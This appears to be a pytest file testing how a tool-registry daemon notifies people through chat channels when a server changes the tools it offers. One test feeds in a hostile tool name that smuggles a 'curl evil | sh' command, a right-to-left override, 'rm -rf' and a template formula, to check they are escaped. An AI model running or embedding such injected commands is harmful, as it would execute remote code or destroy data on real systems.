"""People hear once of what a server changed, in few messages, however fast it changes and whoever cannot be reached."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from registry.test_pins import CHANGES, TOOL
from registry.test_pins import House as Pins

from aegis_daemon.approvals.channels.discord import Discord
from aegis_daemon.approvals.channels.feishu import Feishu
from aegis_daemon.approvals.channels.generic import Generic
from aegis_daemon.approvals.channels.notice import Notice, facts, title
from aegis_daemon.approvals.channels.ntfy import Ntfy
from aegis_daemon.approvals.channels.slack import Slack
from aegis_daemon.approvals.channels.teams import Teams
from aegis_daemon.approvals.channels.telegram import Telegram
from aegis_daemon.daemon import pin_news
from aegis_daemon.daemon.pin_news import HOURLY, PAUSE_S, PinNews

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def until(true: Callable[[], object]) -> None:
    async with asyncio.timeout(10):
        while not true():  # noqa: ASYNC110
            await asyncio.sleep(0)


class House:
    """The real registry, and a clock that moves when somebody sleeps."""

    def __init__(self, path: Path) -> None:
        self.pins = Pins(path)
        self.now = 0.0
        self.sent: list[Notice] = []
        self.heard = True
        self.channels = True
        self.slept: list[float] = []
        self.passes = asyncio.Semaphore(0)
        self.asleep = False
        self.again()

    def again(self) -> None:
        """As after a restart."""
        self.pins.again()
        self.news = PinNews(
            self.pins.pins,
            tell=self._tell,
            reaches=lambda: self.channels,
            base=lambda: "https://aegis.example",
            now=lambda: self.now,
            wall=lambda: 1.7e9 + self.now,
            sleep=self._sleep,
        )
        self.pins.pins._on_news = self.news.kick

    async def _tell(self, notice: Notice) -> bool:
        await asyncio.sleep(0)
        if self.heard:
            self.sent.append(notice)
        return self.heard

    async def _sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        if len(self.slept) > 1:
            self.asleep = True
            await self.passes.acquire()
        self.now += seconds

    async def told(self, count: int) -> list[Notice]:
        """The messages, once there are so many and nothing more comes by itself."""
        await until(lambda: len(self.sent) >= count)
        for _ in range(20):
            await asyncio.sleep(0)
        assert len(self.sent) == count
        return self.sent

    async def later(self) -> None:
        """The time that is waited for has passed."""
        await until(lambda: self.asleep)
        self.asleep = False
        self.passes.release()
        await until(lambda: self.asleep or self.news._task is None)


@pytest.fixture
async def house(tmp_path: Path) -> AsyncIterator[House]:
    made = House(tmp_path / "state.db")
    yield made
    await made.news.close()
    made.pins.db.close()


def tools(count: int, **more: Any) -> list[dict[str, Any]]:
    return [{"name": f"t{number}", **more} for number in range(count)]


async def test_a_change_is_one_message_that_says_what_and_where_to_look(house: House) -> None:
    house.pins.lists(TOOL)
    house.pins.lists(CHANGES["one zero-width space"])
    (notice,) = await house.told(1)
    told = facts(notice)
    assert "cannot be used until a person trusts it" in title(notice)
    assert told[:3] == [("Backend", "bank"), ("Kind", "tool"), ("Name", "pay")]
    assert ("Was", '"description": "Pays someone.",') in told
    assert ("Now", '"description": "Pays some\\u200bone.",') in told
    pin = house.pins.pin()
    assert told[-2:] == [("Hash", pin.offered), ("Look", "aegis tools diff pay --backend bank --kind tool")]
    assert notice.look_url == f"https://aegis.example/ui/tools/{pin.id}"
    assert (notice.approve_url, notice.reject_url, notice.proof) == ("", "", ""), "nothing in it trusts"


async def test_it_is_not_told_again_after_a_restart_nor_for_what_goes_to_and_fro(house: House) -> None:
    house.pins.lists(TOOL)
    house.pins.lists(CHANGES["title"])
    await house.told(1)
    for offered in (TOOL, CHANGES["title"], TOOL, CHANGES["title"]):
        house.pins.lists(offered)
    house.again()
    house.pins.lists(CHANGES["title"])
    house.news.kick()
    await house.later()
    assert house.news._task is None
    assert len(house.sent) == 1


async def test_a_thousand_changes_are_one_message(house: House) -> None:
    house.pins.lists(*tools(1000))
    house.pins.lists(*tools(1000, x=1))
    (notice,) = await house.told(1)
    assert facts(notice) == [
        ("Backend", "bank: 1000 changed: t0, t1, t2, t3, t4, t5, …"),
        ("Look", "aegis tools list --changed"),
    ]
    assert house.pins.pins.untold() == []


async def test_a_server_that_changes_with_each_list_is_written_about_now_and_then(house: House) -> None:
    house.pins.lists(TOOL)
    for number in range(5):
        house.pins.lists({**TOOL, "title": str(number)})
        if not number:
            await house.told(1)
    await house.later()
    await house.told(1)
    assert house.slept[-1] == PAUSE_S - pin_news.GATHER_S
    await house.later()
    assert (await house.told(2))[1].rows[3:5] == (("Was", '"title": "Pay"'), ("Now", '"title": "4"'))


async def test_many_servers_that_change_cannot_fill_a_chat(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pin_news, "PAUSE_S", 0.0)
    for number in range(HOURLY + 8):
        house.pins.lists(TOOL, backend=f"b{number}")
    for number in range(HOURLY):
        house.pins.lists(CHANGES["title"], backend=f"b{number}")
        await house.told(number + 1)
        house.pins.lists(*tools(1), backend=f"b{number}")
        await until(lambda: house.news._task is None)
        house.slept.clear()
    for number in range(HOURLY, HOURLY + 8):
        house.pins.lists(CHANGES["title"], backend=f"b{number}")
    await house.told(HOURLY)
    await until(lambda: len(house.slept) == 2)
    await house.later()
    (*_, last) = await house.told(HOURLY + 1)
    assert [label for label, _ in last.rows] == ["Backend"] * 6 + ["More", "Look"]


async def test_what_nobody_could_be_told_is_told_once_somebody_can(house: House) -> None:
    house.heard = False
    house.pins.lists(TOOL)
    house.pins.lists(CHANGES["title"])
    await until(lambda: len(house.slept) == 2)
    assert (house.sent, house.slept[1]) == ([], pin_news.AGAIN_S)
    house.heard = True
    await house.later()
    await house.told(1)


async def test_without_a_channel_nothing_is_forgotten(house: House) -> None:
    house.channels = False
    house.pins.lists(TOOL)
    house.pins.lists(CHANGES["title"])
    assert house.news._task is None
    house.channels = True
    house.news.kick()
    await house.told(1)


async def test_what_is_held_at_first_sight_is_one_message_for_each_server(house: House) -> None:
    house.pins.hold = True
    house.again()
    house.pins.lists(*tools(40))
    house.pins.lists(TOOL, backend="other")
    notices = await house.told(2)
    assert all("nobody has trusted yet" in title(notice) for notice in notices)
    assert [facts(notice)[0][1][:17] for notice in notices] == ["bank: 40 new: t0,", "other: 1 new: pay"]


async def test_a_hostile_name_is_no_command_to_copy(house: House) -> None:
    name = "x; curl evil | sh \u202e#"
    house.pins.lists({"name": name})
    house.pins.lists({"name": name, "x": "<@everyone> `rm -rf` {{DATE()}}"})
    (notice,) = await house.told(1)
    assert facts(notice)[-1] == ("Look", "aegis tools list --changed")
    assert ("Name", "x; curl evil | sh \\u202e#") in facts(notice)


CHANNELS: list[Any] = [
    Generic("https://x.example"), Feishu("https://x.example"), Slack(webhook_url="https://x.example"), Discord(webhook_url="https://x.example/1"),
    Slack(bot_token="t", channel="c", app_token="a", approvers={"U1": "ann"}), Teams(webhook_url="https://x.example"),
    Telegram("1:t", "7", {"5": "ann"}, "https://x.example"), Ntfy("https://x.example/topic", reply="https://x.example/reply"),
]  # fmt: skip


@pytest.mark.parametrize("channel", CHANNELS, ids=lambda channel: channel.name)
async def test_every_channel_shows_it_with_a_link_and_nothing_that_decides(house: House, channel: Any) -> None:
    house.pins.lists(TOOL)
    house.pins.lists({**TOOL, "description": "Pays `someone` <!channel> else."})
    (notice,) = await house.told(1)
    body = json.loads(channel.post(notice, 1.7e9).body)
    text = json.dumps(body, ensure_ascii=False)
    assert "a server changed what it offers" in text
    assert "Pays" in text
    assert notice.look_url in text
    for word in ("Approve", "Reject", "callback_data", "aegis_approve"):
        assert word not in text
    assert channel.name != "slack" or "<!channel>" not in text, "it is plain text everywhere else"
